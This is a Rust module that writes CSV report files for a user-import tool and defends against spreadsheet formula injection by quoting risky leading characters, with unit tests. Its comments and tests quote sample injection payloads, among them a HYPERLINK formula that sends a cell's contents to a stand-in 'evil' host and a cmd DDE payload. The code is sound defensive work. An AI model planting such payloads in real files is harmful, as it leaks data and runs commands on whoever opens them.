//! Report files (`rejected.csv`, `skipped.csv`, `mfa-reenrol.csv`, `unassigned.csv`,
//! `groups-report.csv`, the differences of `verify`) are ordinary RFC 4180 CSV, unlike the import
//! files: any spreadsheet or `csv` reader opens them. This module is the one writer of every report
//! row, so the dialect and the neutralisation below live in one place.
//!
//! Operators open these files in spreadsheets, and their cells hold values users chose (user
//! names, e-mails, attribute values). A user named `=HYPERLINK("http://evil/?"&A1,"click")` would
//! otherwise be a formula the spreadsheet runs. Following the OWASP "CSV Injection" guidance
//! (<https://owasp.org/www-community/attacks/CSV_Injection>), every cell that starts with `=`,
//! `+`, `-`, `@`, a tab or a carriage return is written with a leading `'`, which spreadsheets
//! read as "this is text" and hide.
//!
//! The rule applies to **every** cell, ours included: `csv_record` cannot tell a user's value from
//! a reason we wrote, and one rule cannot be bypassed by a writer that forgets which column is
//! user-chosen. The report files hold no numeric columns today; a negative number in one would
//! read `'-5`, text to a spreadsheet, which is the price of that one rule.
//!
//! Not for the import files (`users-NNNN.csv`, `disabled.csv`, `canary-sample.csv`):
//! Cognito's import job reads those byte for byte (`shared::import_csv`), and a quote added there
//! would change the user.

use std::borrow::Cow;

/// First characters that make a spreadsheet evaluate a cell (OWASP "CSV Injection").
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `value` as a report cell: with a leading `'` when a spreadsheet would evaluate it, else as is.
pub fn cell(value: &str) -> Cow<'_, str> {
    match value.starts_with(FORMULA_STARTS) {
        true => Cow::Owned(format!("'{value}")),
        false => Cow::Borrowed(value),
    }
}

/// Encodes one RFC 4180 record, with its line break, every field passed through [`cell`].
pub fn csv_record(fields: &[&str]) -> Vec<u8> {
    let mut writer = csv::Writer::from_writer(Vec::new());
    writer
        .write_record(fields.iter().map(|field| cell(field).into_owned()))
        .expect("writing to memory cannot fail");
    writer.into_inner().expect("flushing to memory cannot fail")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn quotes_only_what_needs_it() {
        assert_eq!(
            csv_record(&["a", "b, c", "say \"hi\""]),
            b"a,\"b, c\",\"say \"\"hi\"\"\"\n"
        );
    }

    #[test]
    fn a_formula_becomes_text() {
        assert_eq!(
            csv_record(&[
                "=HYPERLINK(\"http://evil/?\"&A1,\"click\")",
                "s-1",
                "reason"
            ]),
            b"\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"click\"\")\",s-1,reason\n"
        );
    }

    #[test]
    fn every_first_character_a_spreadsheet_evaluates_gets_a_quote() {
        assert_eq!(
            csv_record(&["+cmd|'/c calc'!A0", "-2+3", "@SUM(A1:A9)"]),
            b"'+cmd|'/c calc'!A0,'-2+3,'@SUM(A1:A9)\n"
        );
        assert_eq!(csv_record(&["\tx", "\rx"]), b"'\tx,\"'\rx\"\n");
    }

    #[test]
    fn counts_are_neutralised_too_and_harmless_text_is_untouched() {
        assert_eq!(
            csv_record(&["-5", "5", "a=b", "'=x", ""]),
            b"'-5,5,a=b,'=x,\n"
        );
    }

    #[test]
    fn a_cell_is_borrowed_unless_it_changes() {
        assert!(matches!(cell("ada"), Cow::Borrowed("ada")));
        assert_eq!(cell("=1"), "'=1");
    }
}
